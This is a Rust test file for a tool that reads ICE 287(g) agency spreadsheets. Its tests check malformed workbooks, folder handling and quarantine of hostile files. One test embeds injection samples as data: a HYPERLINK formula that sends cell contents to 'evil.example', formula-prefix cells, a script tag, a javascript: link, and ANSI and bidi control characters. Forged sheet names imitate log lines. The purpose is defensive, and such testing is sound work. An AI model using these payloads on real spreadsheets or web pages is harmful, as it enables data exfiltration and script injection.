//! Folders with odd files in them.

use super::{NAME, numbers_as, read_as, renamed, shipped};
use crate::support::books::*;
use crate::support::{BAY, dry_run, program, shared, workbook};
use std::path::Path;

/// Reads every file of the folder of odd workbooks: as its list, or refused with its words.
#[test]
#[ignore = "needs the real inputs of ../shared"]
fn every_workbook_of_the_folder_of_faults() {
    let shared = shared();
    let folder = shared.join("faults");
    let specs = shipped();
    let bytes = |path: &str| std::fs::read(folder.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
    let seven = listed(&read_as(NAME, bytes("legal/hidden_sheet.xlsx"), &specs).unwrap());
    assert_eq!(seven.rows.len(), 7);
    let cells = |row: usize| {
        seven.rows[row].cells.iter().map(|cell| cell.as_deref().unwrap_or("")).collect::<Vec<_>>()
    };
    assert_eq!(
        cells(1),
        [
            "ARIZONA",
            "Cochise County Sheriff's Office",
            "County",
            "Cochise County",
            "Warrant Service Officer",
            "2020-02-28",
            "link",
            "link"
        ]
    );
    assert_eq!(seven.rows[1].links[0].as_deref(), Some("https://www.ice.gov/doclib/287gMOA/a b&c.pdf"));
    let moved = |rows: u32| {
        let mut list = seven.clone();
        list.rows.iter_mut().for_each(|row| row.number += rows);
        list
    };
    let without_links = |change: fn(&mut ListedRow)| {
        let mut list = seven.clone();
        list.rows.iter_mut().for_each(change);
        list
    };
    let day = |to: fn(&str) -> String| {
        let mut list = seven.clone();
        for row in &mut list.rows {
            row.cells[5] = row.cells[5].as_deref().map(to);
        }
        list
    };
    let typed = |row: &mut ListedRow| {
        for (column, link) in [6, 7].into_iter().zip(&mut row.links) {
            if let Some(link) = link.take() {
                row.cells[column] = Some(link);
            }
        }
    };
    let returned = |mark: &'static str| {
        let mut list = seven.clone();
        for (row, column) in (0..7).flat_map(|row| (0..8).map(move |column| (row, column))) {
            if let Some(text) = list.rows[row].cells[column].as_mut().filter(|_| column != 5) {
                text.push_str(mark);
            }
        }
        list
    };
    let within = |row: &mut ListedRow| row.links = [Some("#Sheet1!A1".to_owned()), None];
    let read: Vec<(&str, Listed)> = vec![
        ("01-whitespace-in-v", seven.clone()),
        ("02-uniqueCount/100M", seven.clone()),
        ("02-uniqueCount/all_counts", seven.clone()),
        ("02-uniqueCount/charref", seven.clone()),
        ("02-uniqueCount/leading_space", seven.clone()),
        ("02-uniqueCount/lower", seven.clone()),
        ("02-uniqueCount/plus", seven.clone()),
        ("02-uniqueCount/single_quotes", seven.clone()),
        ("02-uniqueCount/space_after_eq", seven.clone()),
        ("02-uniqueCount/space_before_eq", seven.clone()),
        ("02-uniqueCount/usize_max", seven.clone()),
        ("03-hyperlink-formula", seven.clone()),
        ("05-legal-refused/comment", seven.clone()),
        ("05-legal-refused/sheetpath_outside", seven.clone()),
        ("05-legal-refused/ss_other", seven.clone()),
        ("05-legal-refused/utf16", seven.clone()),
        ("05-legal-refused/wb_other_name", seven.clone()),
        ("05-legal-refused/zwsp2", seven.clone()),
        ("05-legal-refused/zwsp_headers", seven.clone()),
        ("07-title-row", moved(1)),
        ("legal/backslash.xlsx", seven.clone()),
        ("legal/cdata.xlsx", seven.clone()),
        ("legal/comment.xlsx", seven.clone()),
        ("legal/comment_sst.xlsx", seven.clone()),
        ("legal/date_general.xlsx", day(|text| serial("SIGNED", text).unwrap())),
        ("legal/date_isoTZ.xlsx", day(|text| format!("{text}T00:00:00.000Z"))),
        ("legal/hl_formula.xlsx", seven.clone()),
        ("legal/hl_range.xlsx", without_links(within)),
        ("legal/hl_text.xlsx", without_links(typed)),
        ("legal/latin1.xlsx", seven.clone()),
        ("legal/leadslash.xlsx", seven.clone()),
        ("legal/no_cell_refs.xlsx", without_links(typed)),
        ("legal/no_refs.xlsx", without_links(typed)),
        ("legal/rootrels_missing.xlsx", seven.clone()),
        ("legal/sheetpath_outside.xlsx", seven.clone()),
        ("legal/skiprows2.xlsx", moved(2)),
        ("legal/ss_other_abs.xlsx", seven.clone()),
        ("legal/title_row.xlsx", moved(1)),
        ("legal/utf16.xlsx", seven.clone()),
        ("legal/utf16le_nobom.xlsx", seven.clone()),
        ("legal/v_whitespace.xlsx", seven.clone()),
        ("legal/win1252.xlsx", seven.clone()),
        ("legal/x000D.xlsx", returned("\r")),
        ("legal/x000D_nl.xlsx", returned("\r\n")),
        ("legal/zwsp2.xlsx", seven.clone()),
        ("legal/zwsp_headers.xlsx", seven.clone()),
    ];
    let path = |name: &str| if name.ends_with(".xlsx") { name.to_owned() } else { format!("{name}/{NAME}") };
    for (name, expected) in &read {
        let found =
            read_as(NAME, bytes(&path(name)), &specs).unwrap_or_else(|refusal| panic!("{name}: {refusal}"));
        assert_eq!(&listed(&found), expected, "{name}");
    }
    let ods = read_as(
        "participatingAgencies06062025am.ods",
        bytes("06-folder-silent/participatingAgencies06062025am.ods"),
        &specs,
    );
    assert_eq!(ods.unwrap().rows.len(), 7);
    for (name, words) in [
        ("06-folder-silent/participatingAgencies06062025am.xlsb", "binary .xlsb workbook"),
        ("10-slow/participatingAgencies06062025am.xlsx", "has more than 16384 columns"),
    ] {
        let refusal = read_as(NAME, bytes(name), &specs).unwrap_err().to_string();
        assert!(refusal.contains(words), "{name}: {refusal}");
    }
    for (name, rows) in [
        ("06-folder-silent/ParticipatingEntities-20220218050546.xlsx", 142),
        ("08-hostile-names/participatingAgencies06062025am.xlsx", 28),
        ("09-csv-formula/participatingAgencies06062025am.xlsx", 10),
    ] {
        assert_eq!(read_as(NAME, bytes(name), &specs).unwrap().rows.len(), rows, "{name}");
    }
    // No file is left out.
    let mut known: Vec<String> = read.iter().map(|(name, _)| path(name)).collect();
    known.push("legal/hidden_sheet.xlsx".to_owned());
    for entry in ["06-folder-silent", "08-hostile-names", "09-csv-formula", "10-slow"] {
        let files = std::fs::read_dir(folder.join(entry)).unwrap();
        known.extend(files.map(|file| format!("{entry}/{}", file.unwrap().file_name().to_string_lossy())));
    }
    let mut all = Vec::new();
    let mut open = vec![folder.clone()];
    while let Some(dir) = open.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else if path.extension().is_some_and(|ending| ending != "md") {
                all.push(path.strip_prefix(&folder).unwrap().to_string_lossy().into_owned());
            }
        }
    }
    known.sort();
    all.sort();
    assert_eq!(all, known);
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn other_files_of_a_folder_are_said_once_and_do_not_flood() {
    let dir = tempfile::tempdir().unwrap();
    let lists = dir.path().join("lists");
    std::fs::create_dir(&lists).unwrap();
    workbook(&lists.join(NAME), &[BAY]);
    for name in ["a.zip", "participatingAgencies06072025am.xlsx.crdownload", "notes.txt", "photo.jpg"] {
        std::fs::write(lists.join(name), "x").unwrap();
    }
    (0..2_000).for_each(|n| std::fs::write(lists.join(format!("{n}.pdf")), "x").unwrap());
    std::fs::write(
        lists.join("participatingAgencies05052025am.xlsb"),
        archive(&renamed(
            &parts(&short_list(), &PLAIN),
            WORKBOOK,
            "xl/workbook.bin",
            &[(ROOT_RELS, "workbook.xml", "workbook.bin")],
        )),
    )
    .unwrap();
    let out = dir.path().join("out");
    let mut command = assert_cmd::Command::cargo_bin("coverage287").unwrap();
    let done = command.args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
    let log = String::from_utf8_lossy(&done.get_output().stderr).into_owned();
    for words in [
        "a.zip, participatingAgencies06072025am.xlsx.crdownload",
        "2000 .pdf, 1 .jpg, 1 .txt",
        "binary .xlsb workbook",
    ] {
        assert!(log.contains(words), "{words}: {log}");
    }
    assert!(log.lines().count() < 30, "{log}");
    let lists_of = std::fs::read_to_string(out.join("current/run.json")).unwrap();
    assert!(lists_of.contains("participatingAgencies05052025am.xlsb"));

    // Where many files are no lists, only some are named.
    (0..60).for_each(|n| std::fs::write(lists.join(format!("no list {n}.csv")), "a,b\n1,2\n").unwrap());
    let failed = program().args(["--lists", text(&lists), "--out", text(&out)]).assert().code(5);
    let log = String::from_utf8_lossy(&failed.get_output().stderr).into_owned();
    assert!(log.lines().filter(|line| line.contains("no list ")).count() < 50, "{log}");
}

#[test]
fn what_a_list_prints_is_data_in_every_output() {
    let dir = tempfile::tempdir().unwrap();
    let mut list = short_list();
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Sheriff's Office",
        "+1 Miami-Dade County Sheriff's Office",
        "@SUM(1+1) Los Angeles County Sheriff's Office",
        "\u{1b}[31mRed\u{202e} \u{2066}County\u{2069} Police",
        "<script>alert(1)</script> & \"Police\" Department",
    ];
    let counties = [
        ("ALABAMA", "Etowah County"),
        ("FLORIDA", "Miami-Dade County"),
        ("CALIFORNIA", "Los Angeles County"),
        ("FLORIDA", "Bay County"),
        ("TEXAS", "Walker County"),
    ];
    for ((row, name), (state, county)) in list.rows.iter_mut().zip(names).zip(counties) {
        // A spreadsheet program writes what XML cannot hold as _xHHHH_.
        row.cells[0] = Some(state.to_owned());
        row.cells[1] = Some(name.replace('\u{1b}', "_x001B_"));
        row.cells[3] = Some(county.to_owned());
        row.cells[4] = Some("Task Force Model".to_owned());
    }
    list.rows[0].links[0] = Some("http://evil.example/moa.pdf".to_owned());
    list.rows[1].links[0] = Some("javascript:alert(1)".to_owned());
    let path = dir.path().join("participatingAgencies06062025am.xlsx");
    std::fs::write(&path, archive(&parts(&list, &PLAIN))).unwrap();
    let out = dir.path().join("out");
    let page = program().args(["--lists", text(&path), "--out", text(&out)]).assert().success();
    let is_plain = |text: &str| {
        let odd = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!text.contains(odd), "{:?}", text.chars().find(|c| odd(*c)));
    };
    is_plain(&String::from_utf8_lossy(&page.get_output().stdout));
    is_plain(&String::from_utf8_lossy(&page.get_output().stderr));
    let run = |args: &[&str]| {
        let done = program().args(args).args(["--release", text(&out)]).assert().success();
        String::from_utf8(done.get_output().stdout.clone()).unwrap()
    };
    for args in [
        &["benchmarks", "counties_foreign_born"][..],
        &["explain", "Police"],
        &["--format", "json", "explain", "Police"],
        &["suggest"],
    ] {
        is_plain(&run(args));
    }
    // A text that a spreadsheet program would take for a formula is marked as text in CSV; with --raw it is as printed.
    for (raw, opening) in [(false, "'"), (true, "")] {
        let mut args = vec!["--format", "csv", "benchmarks", "counties_foreign_born", "--rule", "any_local"];
        args.extend(raw.then_some("--raw"));
        let text = run(&args);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(
            cells.iter().any(|cell| *cell == format!("{opening}+1 Miami-Dade County Sheriff's Office")),
            "{raw}: {text}"
        );
        let is_formula = |cell: &&String| cell.starts_with(['=', '+', '@']) && cell.parse::<f64>().is_err();
        assert_eq!(cells.iter().any(|cell| is_formula(&cell)), raw, "{text}");
    }
    // A link to another host is kept and marked; a link that is no address is dropped.
    let release = |table: &str| {
        let done = dry_run(std::slice::from_ref(&path));
        crate::support::table(&done, table)
    };
    let repairs = release("repairs");
    let rules: Vec<String> =
        (0..repairs.row_count()).map(|at| crate::support::cell(&repairs, "repair_rule", at)).collect();
    assert!(rules.iter().any(|rule| rule == "other_host"), "{rules:?}");
    let listings = release("listings");
    let urls: Vec<String> = (0..5).map(|at| crate::support::cell(&listings, "moa_url", at)).collect();
    assert_eq!(urls[..2], ["http://evil.example/moa.pdf", ""]);
    let names: Vec<String> = (0..5).map(|at| crate::support::cell(&listings, "agency_name", at)).collect();
    assert_eq!(names[3], "[31mRed County Police");
    // The report holds no element that a list wrote.
    let report = std::fs::read_to_string(out.join("current/report.html")).unwrap();
    assert!(!report.contains("<script>alert"), "a list's script is the report's");
    is_plain(&report);
    let lists = program().args(["lists", "--lists", text(&path)]).assert().success();
    is_plain(&String::from_utf8_lossy(&lists.get_output().stdout));
}

#[test]
fn one_hostile_file_stops_no_run_unless_it_was_named_or_is_the_newest() {
    let dir = tempfile::tempdir().unwrap();
    let lists = dir.path().join("lists");
    std::fs::create_dir(&lists).unwrap();
    for (day, signed) in [("0602", "2025-03-01"), ("0604", "2025-03-01"), ("0606", "2025-03-01")] {
        workbook(
            &lists.join(format!("participatingAgencies{day}2025am.xlsx")),
            &[crate::support::Row { signed, ..BAY }],
        );
    }
    let plain = parts(&short_list(), &PLAIN);
    let nonsense = with(&plain, STRINGS, |xml| {
        xml.replace("ALABAMA", "STATE")
            .replace("ARIZONA", "STATE")
            .replace("FLORIDA", "STATE")
            .replace("TEXAS", "STATE")
    });
    let mut hostile: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a header and nonsense", archive(&nonsense), "makes no sense as a list: of 5 rows 0 have a state"),
        (
            "a text that is not there",
            archive(&numbers_as(&plain, "<v>8</v>", "<v>\u{668}</v>")),
            "points to shared text",
        ),
        ("no archive", b"PK\x03\x04 and nothing".to_vec(), "is damaged"),
        ("empty", Vec::new(), "is empty"),
        ("a page", b"<!DOCTYPE html><html>".to_vec(), "is a web page"),
    ];
    // Names of parts and sheets are shown: they neither start a line nor reverse the direction of words.
    let forged = with(&plain, WORKBOOK, |xml| {
        xml.replace("Sheet1", "x&#10; INFO done\u{202e}").replace("rId1", "rId7")
    });
    hostile.push(("a sheet's name", archive(&forged), "x\\n INFO done\\u{202e}"));
    let part = with(&plain, STRINGS, |xml| xml.replace("</sst>", ""));
    let part = part
        .into_iter()
        .map(|(name, xml)| (name.replace("sharedStrings", "x\n INFO done\u{202e}"), xml))
        .collect();
    let part =
        with(&part, WORKBOOK_RELS, |xml| xml.replace("sharedStrings.xml", "x\\u{a} INFO done\\u{202e}.xml"));
    hostile.push(("a part's name", archive(&part), "is damaged"));
    for (what, bytes, words) in hostile {
        let out = dir.path().join("out");
        // As a list of the past it is set aside, and the others count as before.
        let past = lists.join("participatingAgencies06032025am.xlsx");
        std::fs::write(&past, &bytes).unwrap();
        program().args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
        let run: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join("current/run.json")).unwrap()).unwrap();
        assert_eq!(
            (run["counts"]["lists_quarantined"].as_u64(), run["counts"]["files_offered"].as_u64()),
            (Some(1), Some(4)),
            "{what}"
        );
        // If a person names the file, it stops the run.
        let named = program()
            .args(["--lists", text(&lists), "--lists", text(&past), "--out", text(&out)])
            .assert()
            .code(5);
        let log = String::from_utf8_lossy(&named.get_output().stderr).into_owned();
        assert!(log.contains(words) && !log.contains(['\u{202e}', '\u{1b}']), "{what}: {log}");
        assert!(!log.lines().any(|line| line.starts_with(" INFO done")), "{what}: {log}");
        // As the newest list it blocks, on a first run too, and the message says the way out.
        std::fs::remove_file(&past).unwrap();
        let newest = lists.join("participatingAgencies06062025pm.xlsx");
        std::fs::write(&newest, &bytes).unwrap();
        for first in [false, true] {
            if first {
                std::fs::remove_dir_all(&out).unwrap();
            }
            let args = ["--lists", text(&lists), "--out", text(&out)];
            let blocked = program().args(args).assert().code(6);
            let log = String::from_utf8_lossy(&blocked.get_output().stderr).into_owned();
            assert!(log.contains(words) && log.contains("--accept newest_list_is_read"), "{what}: {log}");
            assert_eq!(out.join("current").exists(), !first, "{what}");
        }
        let accept = ["--accept", "newest_list_is_read", "--reason", "ICE's server is broken"];
        program().args(["--lists", text(&lists), "--out", text(&out)]).args(accept).assert().success();
        // A list that was accepted once does not block again.
        program().args(["--lists", text(&lists), "--out", text(&out)]).assert().success();
        std::fs::remove_file(&newest).unwrap();
        std::fs::remove_dir_all(&out).unwrap();
    }
}
